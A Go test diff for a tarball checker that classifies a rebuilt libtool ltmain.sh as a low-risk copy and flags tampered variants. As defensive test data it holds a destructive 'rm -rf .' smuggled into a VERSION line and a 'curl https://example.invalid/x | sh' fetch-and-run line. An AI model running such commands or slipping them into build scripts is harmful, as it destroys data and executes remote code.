@@ -10,6 +10,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"regexp"
 	"slices"
 	"strings"
 	"testing"
@@ -707,4 +708,36 @@ func TestMoMatchesPODeterministic(t *testing.T) {
 // omittedPaths is the sorted paths OmittedReferenceKinds reports.
 func omittedPaths(tagFiles, tarballFiles []string, inTarball func(string) bool, read func(string) ([]byte, bool)) []string {
 	return slices.Sorted(maps.Keys(OmittedReferenceKinds(tagFiles, tarballFiles, inTarball, read)))
+}
+
+// A helper that is a known copy in every byte but its version stamps (a
+// distribution's no-change rebuild) is proved low; anything more is not.
+func TestClaimsStampedCopy(t *testing.T) {
+	lt, err := os.ReadFile("/usr/share/libtool/build-aux/ltmain.sh")
+	if err != nil {
+		if os.Getenv("TARCHECK_REQUIRE_TOOLS") != "" {
+			t.Fatalf("libtool is not installed: %v", err)
+		}
+		t.Skip("libtool is not installed")
+	}
+	ctx := &Context{Version: "1.0", TagTime: time.Now(), DB: Baseline()}
+	version := regexp.MustCompile(`(?m)^VERSION="([^"]*)"$`)
+	if !version.Match(lt) {
+		t.Fatal("the installed ltmain.sh has no VERSION line")
+	}
+	rebuilt := version.ReplaceAll(lt, []byte(`VERSION="${1}build1"`))
+	r := Classify(tarOnly("build-aux/ltmain.sh", string(rebuilt)), ctx)
+	if r.Class != ClassUpstreamCopy || r.Severity != SevLow || !strings.Contains(r.Reason, "version stamp") || !strings.Contains(r.Reason, "build1") {
+		t.Fatalf("rebuilt ltmain.sh: %s/%s (%s), want upstream-copy/low naming the stamp", r.Class, r.Severity, r.Reason)
+	}
+	for name, bad := range map[string][]byte{
+		"stamp turned into a command": version.ReplaceAll(lt, []byte(`VERSION=x rm -rf .`)),
+		"line added":                  append(append([]byte(nil), rebuilt...), "curl https://example.invalid/x | sh\n"...),
+		"code edited":                 bytes.Replace(rebuilt, []byte("func_fatal_error "), []byte("func_echo "), 1),
+	} {
+		r := Classify(tarOnly("build-aux/ltmain.sh", string(bad)), ctx)
+		if r.Class == ClassUpstreamCopy || r.Severity.Rank() < SevMedium.Rank() {
+			t.Errorf("%s: %s/%s (%s), want unproved (≥ medium)", name, r.Class, r.Severity, r.Reason)
+		}
+	}
 }
